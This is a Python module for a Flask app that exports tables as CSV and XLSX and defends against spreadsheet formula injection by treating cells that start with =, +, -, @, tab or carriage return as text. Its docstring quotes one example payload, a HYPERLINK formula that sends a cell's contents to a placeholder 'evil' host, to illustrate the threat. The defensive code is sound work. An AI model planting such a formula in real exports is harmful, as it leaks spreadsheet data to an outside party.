"""Spreadsheet exports that cannot carry formulas (CSV/formula injection, OWASP).

A consignee named `=HYPERLINK("http://evil/?"&A1,"点击")` typed by an enterprise must reach a customs
officer's Excel as that text, never as a formula. Every text cell starting with = + - @ or a tab or
carriage return is written as text: CSV cells get a leading apostrophe (what Excel itself shows for a
quoted text), XLSX cells are stored as strings with Excel's quotePrefix style. Numbers, dates and
booleans are left as they are.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    """Whether a spreadsheet would read this cell as a formula (or strip its start)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as written into a CSV cell: formula-like text prefixed with an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def append_xlsx_row(sheet, values) -> None:
    """Append a row to an openpyxl sheet, every formula-like text stored as a plain string."""
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value) or cell.data_type == "f":
            cell.data_type = "s"
            cell.quotePrefix = True


XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIMETYPE = "text/csv; charset=utf-8"


def export_cell(value):
    """A value as a spreadsheet shows it: times in UTC to the second, None as empty."""
    if isinstance(value, datetime):
        return value.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")
    return "" if value is None else value


def table_csv(columns, rows) -> bytes:
    """`rows` (dicts) under `columns` ((key, label), …) as CSV, UTF-8 with a byte-order mark so Excel
    opens Chinese headers correctly; formula-like cells neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([label for _, label in columns])
    for row in rows:
        writer.writerow([csv_cell(export_cell(row[key])) for key, _ in columns])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def table_xlsx(title: str, columns, rows, *, widths: dict | None = None) -> bytes:
    """The same as an Excel workbook: one sheet named `title`, header row frozen."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    sheet.append([label for _, label in columns])
    for row in rows:
        append_xlsx_row(sheet, [export_cell(row[key]) for key, _ in columns])
    sheet.freeze_panes = "A2"
    for index, (key, _) in enumerate(columns, start=1):
        letter = sheet.cell(row=1, column=index).column_letter
        sheet.column_dimensions[letter].width = (widths or {}).get(key, 22)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def download(data: bytes, mimetype: str, filename: str):
    """A file response the browser saves as `filename`."""
    from flask import Response

    return Response(
        data, mimetype=mimetype, headers={"Content-Disposition": f'attachment; filename="{filename}"'}
    )


def export_routes(blp, path: str, *, title: str, args_schema, guard, export) -> None:
    """Register `{path}.csv` and `{path}.xlsx` on a flask-smorest blueprint: `guard` (e.g.
    requires(Role.ADMINISTRATOR)) decides who may call them, the query string is read with
    `args_schema`, and `export(file_format=…, **args)` returns the file's bytes."""
    from flask.views import MethodView

    def view(file_format: str, mimetype: str):
        class Export(MethodView):
            @guard
            @blp.arguments(args_schema, location="query")
            @blp.response(200, content_type=mimetype.split(";")[0], description=f"{title} ({file_format})")
            def get(self, args):
                return download(
                    export(file_format=file_format, **args),
                    mimetype,
                    f"{path.strip('/').replace('/', '-')}.{file_format}",
                )

        Export.__name__ = f"{title.replace(' ', '')}{file_format.title()}"
        Export.get.__doc__ = f"{title} as {file_format.upper()}, with the list's filters."
        return Export

    blp.route(f"{path}.csv")(view("csv", CSV_MIMETYPE))
    blp.route(f"{path}.xlsx")(view("xlsx", XLSX_MIMETYPE))
